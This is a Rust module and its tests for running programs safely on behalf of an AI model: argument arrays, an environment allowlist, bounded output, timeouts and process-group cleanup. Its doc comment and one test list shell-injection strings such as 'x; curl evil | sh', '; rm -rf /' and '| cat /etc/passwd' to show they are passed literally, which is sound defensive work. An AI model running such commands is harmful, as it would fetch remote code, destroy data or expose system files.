//! Running a program for the model: a fixed executable, an argument array, bounded output.
//!
//! Interpolating model text into a shell string (`sh -c "grep {pattern} ."`) hands the
//! model the shell: `x; curl evil | sh` is a valid "pattern". [`Command`] has no API that
//! takes a command line: the program is fixed by the tool author and every argument is
//! one `argv` entry, passed to the program literally (`"; rm -rf /"` is one argument, not
//! two commands). Running `sh -c` with model text through it is still possible, and just
//! as dangerous as anywhere else; don't.
//!
//! Beyond the argument array, a run is bounded in every direction the model could push:
//!
//! - **Environment.** The child starts from an *empty* environment plus the variables in
//!   [`DEFAULT_ENV_ALLOWLIST`] (`PATH`, `HOME`, locale, temp dirs), so host secrets in
//!   variables (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`, …) do not reach a program whose
//!   output goes back to the model. Add names with [`Command::inherit_env`], values with
//!   [`Command::env`], or opt out with [`Command::inherit_all_env`].
//! - **Input.** stdin is `/dev/null`: a program waiting for input ends instead of hanging.
//! - **Output.** stdout and stderr are each captured up to [`Command::output_limit`] bytes
//!   (the head is kept, cut at a UTF-8 boundary, and marked truncated); the rest is read
//!   and discarded so the child never blocks on a full pipe.
//! - **Time.** [`Command::timeout`] kills the child and fails with
//!   [`ToolErrorKind::Timeout`].
//! - **Cancellation.** When the call's [`AbortSignal`] aborts, the child is killed and the
//!   run fails with [`ToolError::aborted`] at once; if the run's future is dropped instead,
//!   tokio's `kill_on_drop` kills the child.
//!
//! - **Descendants.** On Unix the child leads its own process group, and when the run
//!   ends (exit, abort, timeout, or the future being dropped) the whole group is killed:
//!   what a shell or `make` started in the background does not outlive the call, and
//!   cannot hold the output pipes open after the child exits. A program that leaves
//!   the group on purpose (`setsid`, daemons) escapes this, as it escapes any
//!   group-based supervisor, unless the run is sandboxed (its PID namespace ends with
//!   it). Elsewhere only the direct child is killed.
//! - **Effects.** [`Command::sandbox`] runs the program inside a [`Sandbox`]: the files
//!   it may read and write, the network, its processes, enforced by the kernel.
//!
//! A non-zero exit status is not an error here: the tool decides what it means
//! ([`CommandOutput::error_if_failed`] is the common answer).

use std::ffi::{OsStr, OsString};
use std::io;
use std::path::{Path, PathBuf};
use std::process::{ExitStatus, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt};

use crate::abort::AbortSignal;
use crate::error::{ToolError, ToolErrorKind};

use super::sandbox::{
    ProcessGroup, ProcessLeader, Sandbox, SandboxViolation, SpawnError, spawn_contained,
};

/// Variables a child inherits from the host unless told otherwise: what ordinary
/// programs need to find executables, a home directory, a locale and a temp dir, and
/// nothing that usually holds a credential. (`SYSTEMROOT` and `WINDIR` are needed by
/// Windows programs to start at all.)
pub const DEFAULT_ENV_ALLOWLIST: &[&str] = &[
    "PATH",
    "HOME",
    "USER",
    "LANG",
    "LC_ALL",
    "LC_CTYPE",
    "TZ",
    "TMPDIR",
    "TEMP",
    "TMP",
    "SYSTEMROOT",
    "WINDIR",
];

/// Bytes of stdout, and separately of stderr, kept by default (64 KiB).
pub const DEFAULT_OUTPUT_LIMIT: usize = 64 * 1024;

/// Bytes of stderr that [`CommandOutput::error_if_failed`] puts into its message.
pub const ERROR_STDERR_BYTES: usize = 4096;

/// How long a killed child gets to be reaped before the run returns anyway.
const REAP_GRACE: Duration = Duration::from_secs(1);

/// A program to run with an argument array (see the module docs for what is bounded).
#[derive(Debug, Clone)]
pub struct Command {
    program: OsString,
    args: Vec<OsString>,
    current_dir: Option<PathBuf>,
    inherit: Vec<OsString>,
    inherit_all: bool,
    vars: Vec<(OsString, OsString)>,
    timeout: Option<Duration>,
    output_limit: usize,
    sandbox: Option<Sandbox>,
}

impl Command {
    /// A run of `program` (a path, or a name looked up in the child's `PATH`) with no
    /// arguments, the default environment allowlist, no timeout and
    /// [`DEFAULT_OUTPUT_LIMIT`].
    pub fn new(program: impl AsRef<OsStr>) -> Self {
        Command {
            program: program.as_ref().to_owned(),
            args: Vec::new(),
            current_dir: None,
            inherit: DEFAULT_ENV_ALLOWLIST.iter().map(OsString::from).collect(),
            inherit_all: false,
            vars: Vec::new(),
            timeout: None,
            output_limit: DEFAULT_OUTPUT_LIMIT,
            sandbox: None,
        }
    }

    /// Appends one argument, passed to the program as one `argv` entry, literally.
    #[must_use]
    pub fn arg(mut self, arg: impl AsRef<OsStr>) -> Self {
        self.args.push(arg.as_ref().to_owned());
        self
    }

    /// Appends arguments, each one `argv` entry.
    #[must_use]
    pub fn args<I, S>(mut self, args: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<OsStr>,
    {
        self.args
            .extend(args.into_iter().map(|arg| arg.as_ref().to_owned()));
        self
    }

    /// The working directory of the child (resolve model-given directories with
    /// [`resolve_existing_path_inside_root`](super::resolve_existing_path_inside_root)
    /// first).
    #[must_use]
    pub fn current_dir(mut self, dir: impl AsRef<Path>) -> Self {
        self.current_dir = Some(dir.as_ref().to_owned());
        self
    }

    /// Sets a variable in the child's environment.
    #[must_use]
    pub fn env(mut self, key: impl AsRef<OsStr>, value: impl AsRef<OsStr>) -> Self {
        self.vars
            .push((key.as_ref().to_owned(), value.as_ref().to_owned()));
        self
    }

    /// Adds a variable name to the allowlist copied from the host's environment.
    #[must_use]
    pub fn inherit_env(mut self, key: impl AsRef<OsStr>) -> Self {
        self.inherit.push(key.as_ref().to_owned());
        self
    }

    /// Empties the allowlist, including [`DEFAULT_ENV_ALLOWLIST`]: the child sees only
    /// the variables set with [`env`](Self::env). Without `PATH`, give the program as a
    /// path.
    #[must_use]
    pub fn clear_inherited_env(mut self) -> Self {
        self.inherit.clear();
        self.inherit_all = false;
        self
    }

    /// Passes the host's whole environment to the child, secrets included. Only for
    /// programs whose output never reaches the model unredacted.
    #[must_use]
    pub fn inherit_all_env(mut self) -> Self {
        self.inherit_all = true;
        self
    }

    /// Kills the child and fails with [`ToolErrorKind::Timeout`] after `timeout`.
    #[must_use]
    pub fn timeout(mut self, timeout: Duration) -> Self {
        self.timeout = Some(timeout);
        self
    }

    /// Bytes of stdout, and separately of stderr, to keep.
    #[must_use]
    pub fn output_limit(mut self, bytes: usize) -> Self {
        self.output_limit = bytes;
        self
    }

    /// Runs the program inside `sandbox`, enforced by the kernel
    /// ([`Sandbox`](super::Sandbox)): a run the kernel cannot confine as asked is
    /// refused. The sandbox's wall-time limit applies as a timeout when it is the
    /// shorter one.
    #[must_use]
    pub fn sandbox(mut self, sandbox: Sandbox) -> Self {
        self.sandbox = Some(sandbox);
        self
    }

    /// The program to run.
    pub fn get_program(&self) -> &OsStr {
        &self.program
    }

    /// The arguments, in order.
    pub fn get_args(&self) -> &[OsString] {
        &self.args
    }

    /// The program's file name, for messages: never a host directory.
    fn display_name(&self) -> String {
        let name = Path::new(&self.program)
            .file_name()
            .unwrap_or(&self.program);
        name.to_string_lossy().into_owned()
    }

    fn build(&self) -> tokio::process::Command {
        let mut command = tokio::process::Command::new(&self.program);
        command
            .args(&self.args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if !self.inherit_all {
            command.env_clear();
            for key in &self.inherit {
                if let Some(value) = std::env::var_os(key) {
                    command.env(key, value);
                }
            }
        }
        for (key, value) in &self.vars {
            command.env(key, value);
        }
        if let Some(dir) = &self.current_dir {
            command.current_dir(dir);
        }
        command
    }

    /// Runs the program to completion, the timeout, or the abort, whichever is first.
    ///
    /// Fails when the program cannot be started, times out, or is aborted; a program
    /// that ran and exited non-zero is `Ok` with that status.
    pub async fn run(&self, signal: &AbortSignal) -> Result<CommandOutput, ToolError> {
        signal.check()?;
        if let Some(dir) = &self.current_dir
            && !tokio::fs::metadata(dir)
                .await
                .is_ok_and(|metadata| metadata.is_dir())
        {
            return Err(ToolError::new(format!(
                "Command `{}` could not be started: working directory does not exist",
                self.display_name()
            )));
        }
        // A new group led by the child (pgid = its pid), so that the group can be killed.
        // Dropped last: every way out of this function, including the future being
        // dropped, kills what the child started (the group) and removes the sandbox's
        // private directory.
        // With the widening the host granted this call, if it is a re-run.
        let sandbox = self.sandbox.as_ref().map(Sandbox::for_current_call);
        let contained = spawn_contained(self.build(), ProcessLeader::Group, sandbox.as_ref())
            .map_err(|error| self.spawn_error(error))?;
        let (mut child, group) = (contained.child, contained.group);
        let child = &mut child;
        let group = &group;
        let timeout = self.effective_timeout();
        let limit = self.output_limit;
        let stdout = child.stdout.take();
        let stderr = child.stderr.take();

        // The sandbox's output limit, over both streams.
        let budget = OutputBudget {
            seen: AtomicU64::new(0),
            limit: sandbox.as_ref().and_then(Sandbox::output_limit),
            group,
        };
        let ended = {
            let wait = async {
                let status = child.wait().await;
                // Background descendants would keep the pipes open (and the readers
                // waiting) after the child itself is done.
                group.kill();
                status
            };
            let work = async {
                let (stdout, stderr, status) = tokio::join!(
                    read_bounded(stdout, limit, &budget),
                    read_bounded(stderr, limit, &budget),
                    wait
                );
                (stdout, stderr, status)
            };
            let deadline = async {
                match timeout {
                    Some(timeout) => tokio::time::sleep(timeout).await,
                    None => std::future::pending().await,
                }
            };
            tokio::select! {
                biased;
                () = signal.aborted() => Ended::Aborted,
                () = deadline => Ended::TimedOut,
                done = work => Ended::Done(done),
            }
        };

        match ended {
            Ended::Done(_) if budget.exceeded() => {
                let limit = budget.limit.unwrap_or_default();
                Err(ToolError::new(format!(
                    "Command `{}` was killed after {limit} bytes of output (the sandbox's \
                     output limit)",
                    self.display_name()
                )))
            }
            Ended::Done((stdout, stderr, status)) => {
                let status = status.map_err(|error| {
                    ToolError::new(format!(
                        "Command `{}` failed while running: {}",
                        self.display_name(),
                        error.kind()
                    ))
                })?;
                let sandbox_violations = match &sandbox {
                    Some(sandbox) => {
                        #[cfg(unix)]
                        let signal = std::os::unix::process::ExitStatusExt::signal(&status);
                        #[cfg(not(unix))]
                        let signal = None;
                        let cwd = match &self.current_dir {
                            Some(dir) => dir.clone(),
                            None => std::env::current_dir().unwrap_or_default(),
                        };
                        let text = format!("{}\n{}", stderr.text, stdout.text);
                        SandboxViolation::find(&text, signal, sandbox, &cwd)
                    }
                    None => Vec::new(),
                };
                Ok(CommandOutput {
                    program: self.display_name(),
                    status,
                    stdout,
                    stderr,
                    sandbox_violations,
                })
            }
            Ended::Aborted => {
                group.kill();
                kill(child).await;
                Err(ToolError::aborted())
            }
            Ended::TimedOut => {
                group.kill();
                kill(child).await;
                let timeout = timeout.unwrap_or_default();
                Err(ToolError::with_kind(
                    ToolErrorKind::Timeout,
                    format!(
                        "Command `{}` timed out after {timeout:?}",
                        self.display_name()
                    ),
                ))
            }
        }
    }

    /// The shorter of the run's timeout and its sandbox's wall-time limit.
    fn effective_timeout(&self) -> Option<Duration> {
        let limit = self.sandbox.as_ref().and_then(Sandbox::wall_time_limit);
        match (self.timeout, limit) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        }
    }

    fn spawn_error(&self, error: SpawnError) -> ToolError {
        let error = match error {
            SpawnError::Sandbox(error) => {
                return ToolError::new(format!(
                    "Command `{}` could not be started: {error}",
                    self.display_name()
                ));
            }
            SpawnError::Io(error) => error,
        };
        let reason = match error.kind() {
            io::ErrorKind::NotFound => "program not found".to_owned(),
            io::ErrorKind::PermissionDenied => "permission denied".to_owned(),
            // The kind, not the error: an OS error's text can name host paths.
            kind => kind.to_string(),
        };
        ToolError::new(format!(
            "Command `{}` could not be started: {reason}",
            self.display_name()
        ))
    }
}

enum Ended {
    Done((CapturedOutput, CapturedOutput, io::Result<ExitStatus>)),
    Aborted,
    TimedOut,
}

async fn kill(child: &mut tokio::process::Child) {
    // An already-exited child makes start_kill fail; either way it is gone.
    let _ = child.start_kill();
    let _ = tokio::time::timeout(REAP_GRACE, child.wait()).await;
}

/// The bytes both streams produced, against the sandbox's output limit: past it the
/// group is killed.
struct OutputBudget<'a> {
    seen: AtomicU64,
    limit: Option<u64>,
    group: &'a ProcessGroup,
}

impl OutputBudget<'_> {
    fn add(&self, bytes: usize) {
        let seen = self.seen.fetch_add(bytes as u64, Ordering::Relaxed) + bytes as u64;
        if self.limit.is_some_and(|limit| seen > limit) {
            self.group.kill();
        }
    }

    fn exceeded(&self) -> bool {
        self.limit
            .is_some_and(|limit| self.seen.load(Ordering::Relaxed) > limit)
    }
}

/// Reads a pipe to its end, keeping the first `limit` bytes.
async fn read_bounded<R: AsyncRead + Unpin>(
    reader: Option<R>,
    limit: usize,
    budget: &OutputBudget<'_>,
) -> CapturedOutput {
    let mut kept = Vec::new();
    let mut total: u64 = 0;
    if let Some(mut reader) = reader {
        let mut chunk = vec![0u8; 8192];
        loop {
            let read = match reader.read(&mut chunk).await {
                Ok(0) => break,
                Ok(read) => read,
                Err(error) if error.kind() == io::ErrorKind::Interrupted => continue,
                // A broken pipe ends the capture; what was read is still reported.
                Err(_) => break,
            };
            total += read as u64;
            budget.add(read);
            let room = limit.saturating_sub(kept.len());
            kept.extend_from_slice(&chunk[..read.min(room)]);
        }
    }
    CapturedOutput::from_bytes(kept, total)
}

/// One captured stream: its head, as text, and whether anything was cut.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
#[non_exhaustive]
pub struct CapturedOutput {
    /// The kept bytes as text (invalid UTF-8 replaced by U+FFFD; a character cut by the
    /// limit is dropped whole).
    pub text: String,
    /// Whether the stream was longer than the limit.
    pub truncated: bool,
    /// How many bytes the stream had in all.
    pub total_bytes: u64,
}

impl CapturedOutput {
    fn from_bytes(mut bytes: Vec<u8>, total_bytes: u64) -> Self {
        let truncated = total_bytes > bytes.len() as u64;
        if truncated {
            let cut = incomplete_utf8_tail(&bytes);
            bytes.truncate(bytes.len() - cut);
        }
        let text = match String::from_utf8(bytes) {
            Ok(text) => text,
            Err(error) => String::from_utf8_lossy(error.as_bytes()).into_owned(),
        };
        CapturedOutput {
            text,
            truncated,
            total_bytes,
        }
    }
}

/// How many trailing bytes form a UTF-8 sequence cut short (0 when the tail is whole).
fn incomplete_utf8_tail(bytes: &[u8]) -> usize {
    for back in 1..=bytes.len().min(4) {
        let byte = bytes[bytes.len() - back];
        if byte & 0xC0 != 0x80 {
            let needed = match byte {
                0xF0.. => 4,
                0xE0.. => 3,
                0xC0.. => 2,
                _ => 1,
            };
            return if needed > back { back } else { 0 };
        }
    }
    0
}

/// What a finished run produced.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct CommandOutput {
    /// The program's file name (no directory), for messages.
    pub program: String,
    /// How the program exited.
    pub status: ExitStatus,
    /// Its standard output, bounded.
    pub stdout: CapturedOutput,
    /// Its standard error, bounded.
    pub stderr: CapturedOutput,
    /// What the sandbox refused, read from the output and the exit
    /// ([`SandboxViolation::find`]); empty without a sandbox.
    pub sandbox_violations: Vec<SandboxViolation>,
}

impl CommandOutput {
    /// Whether the program exited with status 0.
    pub fn success(&self) -> bool {
        self.status.success()
    }

    /// The exit code, `None` when a signal ended the program.
    pub fn code(&self) -> Option<i32> {
        self.status.code()
    }

    /// `Err` when the program exited non-zero: the message gives the status, the head of
    /// stderr, at most [`ERROR_STDERR_BYTES`] (an error message is read in full by the
    /// model; the runtime's redactor still applies to it), and one `[sandbox] ...` line
    /// per refusal of the sandbox.
    pub fn error_if_failed(self) -> Result<Self, ToolError> {
        if self.success() {
            return Ok(self);
        }
        let status = match self.code() {
            Some(code) => format!("exited with status {code}"),
            None => "was killed by a signal".to_owned(),
        };
        let stderr = self.stderr.text.trim_end();
        let mut message = format!("Command `{}` {status}", self.program);
        if !stderr.is_empty() {
            let mut keep = stderr.len().min(ERROR_STDERR_BYTES);
            while !stderr.is_char_boundary(keep) {
                keep -= 1;
            }
            message.push_str(": ");
            message.push_str(&stderr[..keep]);
            if self.stderr.truncated || keep < stderr.len() {
                message.push_str("\n[stderr truncated]");
            }
        }
        for violation in &self.sandbox_violations {
            message.push_str("\n[sandbox] ");
            message.push_str(&violation.message());
        }
        Err(ToolError::new(message))
    }
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;
    use crate::abort::AbortController;
    use std::time::Instant;

    async fn run(command: Command) -> CommandOutput {
        command.run(&AbortSignal::never()).await.unwrap()
    }

    #[tokio::test]
    async fn runs_a_program_with_arguments() {
        let out = run(Command::new("echo").args(["hello", "world"])).await;
        assert!(out.success());
        assert_eq!(out.code(), Some(0));
        assert_eq!(out.stdout.text, "hello world\n");
        assert!(!out.stdout.truncated);
        assert_eq!(out.stdout.total_bytes, 12);
        assert_eq!(out.stderr, CapturedOutput::default());
    }

    #[tokio::test]
    async fn shell_metacharacters_are_passed_literally() {
        let nasty = [
            "; rm -rf /",
            "$(whoami)",
            "`id`",
            "&& echo pwned",
            "| cat /etc/passwd",
            "> /tmp/x",
            "$HOME",
            "*",
            "'\"",
            "a\nb",
        ];
        let out = run(Command::new("printf").arg("[%s]\n").args(nasty)).await;
        let expected: String = nasty.iter().map(|arg| format!("[{arg}]\n")).collect();
        assert_eq!(out.stdout.text, expected);
    }

    #[tokio::test]
    async fn output_is_bounded_and_the_rest_drained() {
        let out = run(Command::new("seq")
            .args(["1", "1000000"])
            .output_limit(1000))
        .await;
        assert!(out.success(), "the child was not blocked on a full pipe");
        assert!(out.stdout.truncated);
        assert_eq!(out.stdout.text.len(), 1000);
        assert!(out.stdout.text.starts_with("1\n2\n3\n"));
        // 1..=1000000 with newlines: 9*2 + 90*3 + 900*4 + 9000*5 + 90000*6 + 900000*7 + 8.
        assert_eq!(out.stdout.total_bytes, 6_888_896);
    }

    #[tokio::test]
    async fn stderr_is_bounded_separately() {
        let out = run(Command::new("sh")
            .args(["-c", "echo out; seq 1 100000 >&2; exit 3"])
            .output_limit(10))
        .await;
        assert_eq!(out.code(), Some(3));
        assert_eq!(out.stdout.text, "out\n");
        assert!(!out.stdout.truncated);
        assert!(out.stderr.truncated);
        assert_eq!(out.stderr.text, "1\n2\n3\n4\n5\n");
        let error = out.error_if_failed().unwrap_err();
        assert_eq!(
            error.message(),
            "Command `sh` exited with status 3: 1\n2\n3\n4\n5\n[stderr truncated]"
        );
    }

    #[tokio::test]
    async fn failure_messages_carry_a_bounded_stderr() {
        let out = run(Command::new("sh").args(["-c", "seq 1 2000 >&2; exit 1"])).await;
        assert!(
            !out.stderr.truncated,
            "64 KiB default keeps more than the message"
        );
        let message = out.error_if_failed().unwrap_err().message().to_owned();
        assert!(message.starts_with("Command `sh` exited with status 1: 1\n2\n"));
        assert!(message.ends_with("\n[stderr truncated]"));
        assert!(
            message.len() < ERROR_STDERR_BYTES + 100,
            "{}",
            message.len()
        );
        let ok = run(Command::new("true")).await;
        assert!(ok.error_if_failed().is_ok());
        let killed = run(Command::new("sh").args(["-c", "kill -9 $$"])).await;
        assert_eq!(
            killed.error_if_failed().unwrap_err().message(),
            "Command `sh` was killed by a signal"
        );
    }

    #[tokio::test]
    async fn truncation_never_splits_a_character() {
        // "é" is two bytes: a limit that ends inside one drops it whole.
        let out = run(Command::new("printf").arg("aééé").output_limit(2)).await;
        assert_eq!(out.stdout.text, "a");
        assert!(out.stdout.truncated);
        let out = run(Command::new("printf").arg("aééé").output_limit(3)).await;
        assert_eq!(out.stdout.text, "aé");
        assert_eq!(out.stdout.total_bytes, 7);
    }

    #[tokio::test]
    async fn abort_kills_the_child_quickly() {
        let pid_file =
            std::env::temp_dir().join(format!("pi-tool-abort-{}.pid", std::process::id()));
        let controller = AbortController::new();
        let signal = controller.signal();
        // `exec` keeps the shell's pid, so the recorded pid is the direct child's.
        let command = Command::new("sh").args([
            "-c",
            "echo $$ > \"$1\"; exec sleep 30",
            "sh",
            pid_file.to_str().unwrap(),
        ]);
        let started = Instant::now();
        let run = tokio::spawn(async move { command.run(&signal).await });
        let pid = wait_for_pid(&pid_file, started).await;
        assert!(alive(&pid));
        controller.abort();
        let error = run.await.unwrap().unwrap_err();
        assert!(error.is_abort());
        assert!(started.elapsed() < Duration::from_secs(2), "abort was slow");
        // Killed and reaped by the run: `kill -0` finds no such process.
        assert!(!alive(&pid), "process {pid} survived the abort");
    }

    fn alive(pid: &str) -> bool {
        std::process::Command::new("kill")
            .args(["-0", pid])
            .stderr(Stdio::null())
            .status()
            .unwrap()
            .success()
    }

    async fn wait_for_pid(file: &Path, started: Instant) -> String {
        loop {
            if let Ok(text) = std::fs::read_to_string(file)
                && text.ends_with('\n')
            {
                let _ = std::fs::remove_file(file);
                return text.trim().to_owned();
            }
            assert!(started.elapsed() < Duration::from_secs(5), "never started");
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }

    #[tokio::test]
    async fn abort_kills_grandchildren_too() {
        let pid_file = std::env::temp_dir().join(format!("pi-tool-gc-{}.pid", std::process::id()));
        let controller = AbortController::new();
        let signal = controller.signal();
        let command = Command::new("sh").args([
            "-c",
            "sleep 30 & echo $! > \"$1\"; wait",
            "sh",
            pid_file.to_str().unwrap(),
        ]);
        let started = Instant::now();
        let run = tokio::spawn(async move { command.run(&signal).await });
        let grandchild = wait_for_pid(&pid_file, started).await;
        assert!(alive(&grandchild));
        controller.abort();
        assert!(run.await.unwrap().unwrap_err().is_abort());
        assert!(started.elapsed() < Duration::from_secs(2), "abort was slow");
        // SIGKILL is delivered at once, but the orphan is reaped by init: poll briefly.
        let deadline = Instant::now() + Duration::from_secs(2);
        while alive(&grandchild) && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert!(
            !alive(&grandchild),
            "grandchild {grandchild} survived the abort"
        );
    }

    #[tokio::test]
    async fn background_children_do_not_hold_the_run_open() {
        // `sleep` inherits stdout: without the group kill the pipe stays open for 30s.
        let started = Instant::now();
        let out = run(Command::new("sh")
            .args(["-c", "sleep 30 & echo started"])
            .timeout(Duration::from_secs(10)))
        .await;
        assert_eq!(out.stdout.text, "started\n");
        assert!(
            started.elapsed() < Duration::from_secs(2),
            "waited for the background child"
        );
    }

    #[tokio::test]
    async fn an_aborted_signal_starts_nothing() {
        let error = Command::new("sleep")
            .arg("30")
            .run(&AbortSignal::aborted_now())
            .await
            .unwrap_err();
        assert!(error.is_abort());
    }

    #[tokio::test]
    async fn timeout_kills_the_child() {
        let started = Instant::now();
        let error = Command::new("sleep")
            .arg("30")
            .timeout(Duration::from_millis(100))
            .run(&AbortSignal::never())
            .await
            .unwrap_err();
        assert_eq!(error.kind(), ToolErrorKind::Timeout);
        assert_eq!(error.message(), "Command `sleep` timed out after 100ms");
        assert!(started.elapsed() < Duration::from_secs(2));
    }

    #[tokio::test]
    async fn a_missing_program_is_a_clear_error() {
        let error = Command::new("/no/such/dir/pi-tool-no-such-program")
            .run(&AbortSignal::never())
            .await
            .unwrap_err();
        assert_eq!(
            error.message(),
            "Command `pi-tool-no-such-program` could not be started: program not found"
        );
        let error = Command::new("true")
            .current_dir("/no/such/dir")
            .run(&AbortSignal::never())
            .await
            .unwrap_err();
        assert_eq!(
            error.message(),
            "Command `true` could not be started: working directory does not exist"
        );
    }

    #[tokio::test]
    async fn the_environment_is_an_allowlist() {
        let out = run(Command::new("env").env("PI_TOOL_SET", "1")).await;
        let names: Vec<&str> = out
            .stdout
            .text
            .lines()
            .filter_map(|line| line.split_once('=').map(|(name, _)| name))
            .collect();
        assert!(names.contains(&"PI_TOOL_SET"));
        assert!(names.contains(&"PATH"), "{names:?}");
        for name in &names {
            assert!(
                *name == "PI_TOOL_SET" || DEFAULT_ENV_ALLOWLIST.contains(name),
                "{name} leaked into the child"
            );
        }
        let bare = run(Command::new("/usr/bin/env").clear_inherited_env()).await;
        assert_eq!(bare.stdout.text, "");
        let all = run(Command::new("env").inherit_all_env()).await;
        for (name, _) in std::env::vars_os() {
            let Some(name) = name.to_str() else { continue };
            let line = format!("{name}=");
            assert!(
                all.stdout.text.lines().any(|l| l.starts_with(&line)),
                "{name} missing with inherit_all_env"
            );
        }
    }

    #[tokio::test]
    async fn the_working_directory_is_used() {
        let dir = std::fs::canonicalize(std::env::temp_dir()).unwrap();
        let out = run(Command::new("pwd").current_dir(&dir)).await;
        assert_eq!(out.stdout.text.trim_end(), dir.to_str().unwrap());
    }

    #[tokio::test]
    async fn stdin_is_empty() {
        let out = run(Command::new("cat").timeout(Duration::from_secs(5))).await;
        assert!(out.success());
        assert_eq!(out.stdout.text, "");
    }
}
